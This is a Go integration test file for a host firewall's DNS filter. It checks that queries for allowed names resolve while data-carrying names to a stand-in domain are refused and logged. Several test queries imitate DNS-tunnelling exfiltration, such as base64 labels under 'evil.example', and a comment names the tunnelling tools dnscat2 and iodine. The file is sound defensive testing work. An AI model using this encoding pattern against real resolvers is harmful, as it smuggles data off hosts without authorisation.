//go:build linux

package dnsfilter

import (
	"context"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"moat/internal/firewall"
	"moat/internal/flow"
	"moat/internal/flow/flowtest"
	"moat/internal/netlab"
	"moat/internal/policy"
	"moat/internal/sockdiag"
	"moat/internal/testkit"
)

// resolver is the test's own DNS server on a peer of the node: it answers
// every A question with 192.0.2.7 and keeps the names it was asked. A
// name starting "slow-" it answers only once hold is closed, counting it
// in held meanwhile.
type resolver struct {
	hold chan struct{}
	held atomic.Int32

	mu   sync.Mutex // guards seen
	seen []string
}

func (r *resolver) asked(name string) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, n := range r.seen {
		if strings.EqualFold(n, name) {
			return true
		}
	}
	return false
}

func (r *resolver) serve(t *testing.T, h *netlab.Host) {
	t.Helper()
	handler := dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		r.mu.Lock()
		for _, qq := range q.Question {
			r.seen = append(r.seen, qq.Name)
		}
		r.mu.Unlock()
		if strings.HasPrefix(q.Question[0].Name, "slow-") {
			r.held.Add(1)
			<-r.hold
		}
		m := new(dns.Msg)
		m.SetReply(q)
		m.Answer = append(m.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Question[0].Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 30}, A: net.IPv4(192, 0, 2, 7)})
		w.WriteMsg(m)
	})
	addr := netip.AddrPortFrom(h.Addr, 53).String()
	var pc net.PacketConn
	var ln net.Listener
	if err := h.Do(func() (err error) {
		if pc, err = net.ListenPacket("udp", addr); err != nil {
			return err
		}
		ln, err = net.Listen("tcp", addr)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	for _, s := range []*dns.Server{{PacketConn: pc, Handler: handler}, {Listener: ln, Handler: handler}} {
		go s.ActivateAndServe()
		t.Cleanup(func() { s.Shutdown() })
	}
}

// node is a node with its host firewall and its DNS filter, and a peer
// holding the test's resolver.
type node struct {
	fw, peer *netlab.Host
	m        *firewall.Manager
	res      *resolver
	recs     *flow.Memory
	port     uint16
}

const filterPort = 15353

func newNode(t *testing.T) *node {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("network namespaces and nftables need root (CI runs as root)")
	}
	l, err := netlab.New(fmt.Sprintf("dnf%d-%d-", os.Getpid()%100000, time.Now().UnixNano()%1000), netip.MustParsePrefix("198.18.11.0/24"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := l.Close(); err != nil {
			t.Error(err)
		}
	})
	n := &node{res: &resolver{hold: make(chan struct{})}, recs: &flow.Memory{}, port: filterPort}
	if n.fw, err = l.AddHost("fw"); err != nil {
		t.Fatal(err)
	}
	if n.peer, err = l.AddHost("peer"); err != nil {
		t.Fatal(err)
	}
	n.res.serve(t, n.peer)
	t.Cleanup(func() { close(n.res.hold) })
	if n.m, err = firewall.New(firewall.Config{NetNS: n.fw.Path(), Node: "fw"}); err != nil {
		t.Fatal(err)
	}
	return n
}

// filter starts a DNS filter in the node's namespace on port of every
// IPv4 address, as the agent does, allowing names below allowed.example
// and www.example.com.
func (n *node) filter(t *testing.T, port uint16, audit bool) {
	t.Helper()
	n.filterWith(t, port, Config{Audit: audit})
}

// filterWith is filter with cfg's bounds and mode.
func (n *node) filterWith(t *testing.T, port uint16, cfg Config) {
	t.Helper()
	cfg.Node = "fw"
	cfg.Resolvers = func() []netip.AddrPort { return []netip.AddrPort{netip.AddrPortFrom(n.peer.Addr, 53)} }
	cfg.Allowed = func(name string) (string, bool) {
		for _, p := range []string{"*.allowed.example", "www.example.com"} {
			if policy.HostMatches(p, name) {
				return p, true
			}
		}
		return "", false
	}
	cfg.Flows, cfg.Timeout = n.recs, testkit.WaitLimit
	cfg.Dial = func(ctx context.Context, network, addr string) (c net.Conn, err error) {
		err = n.fw.Do(func() error {
			var d net.Dialer
			c, err = d.DialContext(ctx, network, addr)
			return err
		})
		return c, err
	}
	cfg.Owner = func(network string, from netip.AddrPort) (uid int, ok bool) {
		n.fw.Do(func() error {
			uid, ok = sockdiag.Owner(network, from)
			return nil
		})
		return uid, ok
	}
	f, err := New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	addr := "0.0.0.0:" + strconv.Itoa(int(port))
	var pc net.PacketConn
	var ln net.Listener
	if err := n.fw.Do(func() (err error) {
		if pc, err = net.ListenPacket("udp4", addr); err != nil {
			return err
		}
		ln, err = net.Listen("tcp4", addr)
		return err
	}); err != nil {
		t.Fatal(err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	done := make(chan error, 1)
	go func() { done <- f.Serve(ctx, []net.PacketConn{pc}, []net.Listener{ln}) }()
	t.Cleanup(func() {
		cancel()
		if err := <-done; err != nil {
			t.Errorf("Serve: %v", err)
		}
	})
}

// apply puts the node's firewall in mode, its DNS filtered on port (0:
// open), the peer its resolver, the test's uid (root) the agent's.
func (n *node) apply(t *testing.T, mode firewall.Mode, port uint16) {
	t.Helper()
	if err := n.m.Apply(firewall.Build(firewall.Inputs{Mode: mode, Resolvers: []netip.Addr{n.peer.Addr}, DNSPort: port, AgentUID: os.Getuid()})); err != nil {
		t.Fatal(err)
	}
}

// ask sends a query for name (type A) over network from a socket of uid on
// the node to the peer's resolver address, as a program that reads
// /etc/resolv.conf does; it returns the answer's rcode and first address.
func (n *node) ask(t *testing.T, uid int, network, name string) (int, string, error) {
	t.Helper()
	return exchange(n.fw, uid, network, netip.AddrPortFrom(n.peer.Addr, 53).String(), name, dns.TypeA, answerWait)
}

// A local user (uid 65534) on a node in enforce mode asks the node's
// resolver, over UDP and TCP: an allowed name is answered with the
// resolver's answer; a name carrying data to a domain of the user's
// choosing (aGVsbG8.evil.example, dnscat2's and iodine's way out) never
// reaches the resolver, is answered REFUSED and is recorded. The agent's
// own uid still asks the resolver directly, and firewall.dns: open gives
// back the resolver to every uid.
func TestLocalUserDNSFiltered(t *testing.T) {
	n := newNode(t)
	n.filter(t, n.port, false)
	n.apply(t, firewall.ModeEnforce, n.port)
	const user = 65534
	for _, network := range []string{"udp", "tcp"} {
		t.Logf("%s: an allowed name is answered with the resolver's answer", network)
		rcode, addr, err := n.ask(t, user, network, network+".allowed.example")
		if err != nil || rcode != dns.RcodeSuccess || addr != "192.0.2.7" {
			t.Errorf("%s: allowed name: rcode %d, address %q, %v; want the resolver's 192.0.2.7", network, rcode, addr, err)
		}
		if !n.res.asked(network + ".allowed.example.") {
			t.Errorf("%s: the resolver was not asked for the allowed name", network)
		}
		t.Logf("%s: a name of the user's choosing is refused and never reaches the resolver", network)
		exfil := "aGVsbG8-" + network + ".evil.example"
		rcode, _, err = n.ask(t, user, network, exfil)
		if err != nil || rcode != dns.RcodeRefused {
			t.Errorf("%s: exfiltrating name: rcode %d, %v; want REFUSED", network, rcode, err)
		}
		if n.res.asked(exfil + ".") {
			t.Errorf("%s: the resolver saw %s", network, exfil)
		}
		rec := wait(t, n.recs, "the refused "+network+" query", func(r flow.Record) bool {
			return r.Unmapped != nil && r.Unmapped.ReasonCode == flow.ReasonDNSRefused && r.DstEndpoint.Hostname == exfil+"."
		})
		if rec.Verdict() != flow.VerdictDeny || rec.ConnectionInfo.ProtocolName != network || rec.Unmapped.Node != "fw" {
			t.Errorf("%s: record %+v %+v", network, rec.Unmapped, rec.ConnectionInfo)
		}
	}

	t.Log("an ANY question is refused whatever its name")
	resolverAddr := netip.AddrPortFrom(n.peer.Addr, 53).String()
	if rcode, err := n.askType(user, resolverAddr, "www.example.com", dns.TypeANY); err != nil || rcode != dns.RcodeRefused {
		t.Errorf("ANY: rcode %d, %v; want REFUSED", rcode, err)
	}
	t.Log("DNS to a server of the user's choosing is the filter's too")
	if rcode, err := n.askType(user, "198.18.11.250:53", "www.example.com", dns.TypeA); err != nil || rcode != dns.RcodeSuccess {
		t.Errorf("an allowed name asked of another server: rcode %d, %v; want the filter's answer", rcode, err)
	}
	if rcode, err := n.askType(user, "198.18.11.250:53", "c2VydmVy.evil.example", dns.TypeA); err != nil || rcode != dns.RcodeRefused || n.res.asked("c2VydmVy.evil.example.") {
		t.Errorf("a name of the user's choosing asked of another server: rcode %d, %v; want REFUSED", rcode, err)
	}

	t.Log("the agent's own uid asks the resolver directly")
	if rcode, addr, err := n.ask(t, os.Getuid(), "udp", "agent.evil.example"); err != nil || rcode != dns.RcodeSuccess || addr != "192.0.2.7" {
		t.Errorf("the agent's query: rcode %d, address %q, %v", rcode, addr, err)
	}
	if !n.res.asked("agent.evil.example.") {
		t.Error("the agent's query did not reach the resolver")
	}

	t.Log("firewall.dns: open gives the resolver back to every uid")
	n.apply(t, firewall.ModeEnforce, 0)
	if rcode, _, err := n.ask(t, user, "udp", "b3Blbg.evil.example"); err != nil || rcode != dns.RcodeSuccess || !n.res.asked("b3Blbg.evil.example.") {
		t.Errorf("dns open: rcode %d, %v, resolver asked %v", rcode, err, n.res.asked("b3Blbg.evil.example."))
	}
}

// A container behind the node's bridge asks the node's resolver, over UDP
// and TCP, with forwarding egress: its DNS, routed by the node, is taken
// to the filter as a local user's is. An allowed name is answered with the
// resolver's answer; a name carrying data is answered REFUSED, never
// reaches the resolver, and the record names the container's address. A
// peer on the network asks the filter's port on the node's address, or
// the node's address on 53: no answer, and the resolver hears nothing.
func TestRoutedDNSFiltered(t *testing.T) {
	n := newNode(t)
	ctr, err := n.fw.Lab().AddBehind(n.fw, "ctr", netip.MustParsePrefix("198.18.12.0/24"))
	if err != nil {
		t.Fatal(err)
	}
	n.filter(t, n.port, false)
	n.apply(t, firewall.ModeEnforce, n.port)
	resolverAddr := netip.AddrPortFrom(n.peer.Addr, 53).String()
	for _, network := range []string{"udp", "tcp"} {
		t.Logf("%s: a container's allowed name is answered with the resolver's answer", network)
		name := "ctr-" + network + ".allowed.example"
		rcode, addr, err := askFrom(ctr, network, resolverAddr, name, answerWait)
		if err != nil || rcode != dns.RcodeSuccess || addr != "192.0.2.7" {
			t.Errorf("%s: allowed name: rcode %d, address %q, %v; want the resolver's 192.0.2.7", network, rcode, addr, err)
		}
		if !n.res.asked(name + ".") {
			t.Errorf("%s: the resolver was not asked for the allowed name", network)
		}
		t.Logf("%s: a container's name of its choosing is refused and never reaches the resolver", network)
		exfil := "Y3Ry-" + network + ".evil.example"
		rcode, _, err = askFrom(ctr, network, resolverAddr, exfil, answerWait)
		if err != nil || rcode != dns.RcodeRefused {
			t.Errorf("%s: exfiltrating name: rcode %d, %v; want REFUSED", network, rcode, err)
		}
		if n.res.asked(exfil + ".") {
			t.Errorf("%s: the resolver saw %s", network, exfil)
		}
		rec := wait(t, n.recs, "the refused "+network+" query", func(r flow.Record) bool {
			return r.Unmapped != nil && r.Unmapped.ReasonCode == flow.ReasonDNSRefused && r.DstEndpoint.Hostname == exfil+"."
		})
		if rec.Verdict() != flow.VerdictDeny || rec.SrcEndpoint.IP != ctr.Addr.String() || rec.ConnectionInfo.ProtocolName != network {
			t.Errorf("%s: record from %+v, %+v; want a denial naming the container %s", network, rec.SrcEndpoint, rec.ConnectionInfo, ctr.Addr)
		}
	}
	t.Log("a container on a second network of the bridge: the redirect takes its query to the bridge's first address, and the answer must come from there")
	for _, step := range []struct {
		h    *netlab.Host
		args []string
	}{
		{n.fw, []string{"ip", "addr", "add", "198.18.13.1/24", "dev", "cbr0"}},
		{ctr, []string{"ip", "addr", "add", "198.18.13.2/24", "dev", "eth0"}},
	} {
		if out, err := step.h.Command(context.Background(), step.args[0], step.args[1:]...).CombinedOutput(); err != nil {
			t.Fatalf("%v: %v: %s", step.args, err, out)
		}
	}
	var resp *dns.Msg
	err = ctr.Do(func() error {
		c := dns.Client{Net: "udp", Timeout: answerWait, Dialer: &net.Dialer{LocalAddr: &net.UDPAddr{IP: net.IPv4(198, 18, 13, 2)}}}
		m := new(dns.Msg)
		m.SetQuestion("second.allowed.example.", dns.TypeA)
		var err error
		resp, _, err = c.Exchange(m, resolverAddr)
		return err
	})
	if err != nil {
		t.Errorf("a query from the bridge's second network had no answer from the address it was redirected to: %v", err)
	} else if resp.Rcode != dns.RcodeSuccess {
		t.Errorf("a query from the bridge's second network: rcode %d", resp.Rcode)
	}

	t.Log("a peer on the network asks the filter directly, and the node's own address on 53")
	for _, server := range []netip.AddrPort{netip.AddrPortFrom(n.fw.Addr, n.port), netip.AddrPortFrom(n.fw.Addr, 53)} {
		for _, network := range []string{"udp", "tcp"} {
			name := fmt.Sprintf("peer-%s-%d.allowed.example", network, server.Port())
			if rcode, _, err := askFrom(n.peer, network, server.String(), name, noAnswerWait); err == nil {
				t.Errorf("a peer's %s query to %s was answered (rcode %d)", network, server, rcode)
			}
			if n.res.asked(name + ".") {
				t.Errorf("a peer's %s query to %s reached the resolver", network, server)
			}
		}
	}
}

// answerWait bounds a query the test expects answered: a single UDP try,
// so it is generous for a loaded host; a query expected to go unanswered
// is given noAnswerWait.
const answerWait, noAnswerWait = 15 * time.Second, 2 * time.Second

// askFrom sends a query for name (type A) over network from h to server,
// waiting at most wait, and returns the answer's rcode and first address.
func askFrom(h *netlab.Host, network, server, name string, wait time.Duration) (int, string, error) {
	return exchange(h, -1, network, server, name, dns.TypeA, wait)
}

// askType asks server over UDP, as uid, for name of qtype, and returns
// the answer's rcode.
func (n *node) askType(uid int, server, name string, qtype uint16) (int, error) {
	rcode, _, err := exchange(n.fw, uid, "udp", server, name, qtype, answerWait)
	return rcode, err
}

// exchange sends a query for name of qtype over network from h, from a
// socket of uid (-1: the test's), to server, waiting at most wait; it
// returns the answer's rcode and first IPv4 address.
func exchange(h *netlab.Host, uid int, network, server, name string, qtype uint16, wait time.Duration) (int, string, error) {
	var resp *dns.Msg
	err := h.Do(func() error {
		if uid >= 0 {
			// The socket is made with uid as its file system uid: its
			// owner for the firewall's uid match.
			unix.Setfsuid(uid)
			defer unix.Setfsuid(0)
		}
		c := dns.Client{Net: network, Timeout: wait}
		m := new(dns.Msg)
		m.SetQuestion(dns.Fqdn(name), qtype)
		var err error
		resp, _, err = c.Exchange(m, server)
		return err
	})
	if err != nil {
		return 0, "", err
	}
	addr := ""
	if len(resp.Answer) > 0 {
		if a, ok := resp.Answer[0].(*dns.A); ok {
			addr = a.A.String()
		}
	}
	return resp.Rcode, addr, nil
}

// In audit mode the filter answers a name it would refuse, and records it
// as what enforce mode would refuse.
func TestLocalUserDNSAudit(t *testing.T) {
	n := newNode(t)
	n.filter(t, n.port, true)
	n.apply(t, firewall.ModeAudit, n.port)
	rcode, addr, err := n.ask(t, 65534, "udp", "YXVkaXQ.evil.example")
	if err != nil || rcode != dns.RcodeSuccess || addr != "192.0.2.7" {
		t.Errorf("audit: rcode %d, address %q, %v; want the resolver's answer", rcode, addr, err)
	}
	rec := wait(t, n.recs, "the would-refuse record", func(r flow.Record) bool {
		return r.Unmapped != nil && r.Unmapped.ReasonCode == flow.ReasonDNSRefused && r.DstEndpoint.Hostname == "YXVkaXQ.evil.example."
	})
	if rec.Verdict() != flow.VerdictAudit {
		t.Errorf("audit record's verdict %q", rec.Verdict())
	}
}

// wait is flowtest.Wait.
func wait(t *testing.T, recs *flow.Memory, what string, match func(flow.Record) bool) flow.Record {
	t.Helper()
	return flowtest.Wait(t, recs, what, match)
}

// Two local users of a node in enforce mode, whose DNS the firewall
// redirects to the filter from the same address: one (uid 65534) asks
// for names its own servers are slow to answer (below an allowed "*."),
// more than the filter answers at once. Past its share the queries are
// answered REFUSED at once and recorded; the other user (uid 65533)
// still has its query forwarded and answered.
func TestLocalUserShareThroughRedirect(t *testing.T) {
	n := newNode(t)
	const slots, share, flood = 8, 2, 20
	n.filterWith(t, n.port, Config{MaxInFlight: slots, MaxClientInFlight: share})
	n.apply(t, firewall.ModeEnforce, n.port)
	resolverAddr := netip.AddrPortFrom(n.peer.Addr, 53).String()
	const user, other = 65534, 65533
	t.Logf("uid %d asks for %d slow names, none answered yet when the next goes", user, flood)
	for i := range flood {
		var c net.Conn
		if err := n.fw.Do(func() (err error) {
			unix.Setfsuid(user)
			defer unix.Setfsuid(0)
			c, err = net.Dial("udp", resolverAddr)
			return err
		}); err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		dc := &dns.Conn{Conn: c}
		q := new(dns.Msg)
		q.SetQuestion(fmt.Sprintf("slow-%d.allowed.example.", i), dns.TypeA)
		if err := dc.WriteMsg(q); err != nil {
			t.Fatal(err)
		}
		if i < share {
			testkit.WaitFor(t, "the user's query at the resolver", func() bool { return n.res.held.Load() == int32(i+1) })
			continue
		}
		c.SetReadDeadline(time.Now().Add(answerWait))
		if m, err := dc.ReadMsg(); err != nil || m.Rcode != dns.RcodeRefused {
			t.Fatalf("query %d, past the user's share of %d: %v, %v; want REFUSED", i, share, m, err)
		}
	}
	if got := n.res.held.Load(); got != share {
		t.Fatalf("the resolver holds %d of the user's queries, want its share of %d", got, share)
	}
	wait(t, n.recs, "a record of a query past the user's share", func(r flow.Record) bool {
		return r.Unmapped != nil && strings.Contains(r.Unmapped.Reason, errClientBusy.Error())
	})
	t.Logf("uid %d asks from the same address: answered", other)
	if rcode, addr, err := n.ask(t, other, "udp", "other.allowed.example"); err != nil || rcode != dns.RcodeSuccess || addr != "192.0.2.7" {
		t.Fatalf("the other user's query: rcode %d, address %q, %v; want the resolver's 192.0.2.7", rcode, addr, err)
	}
}
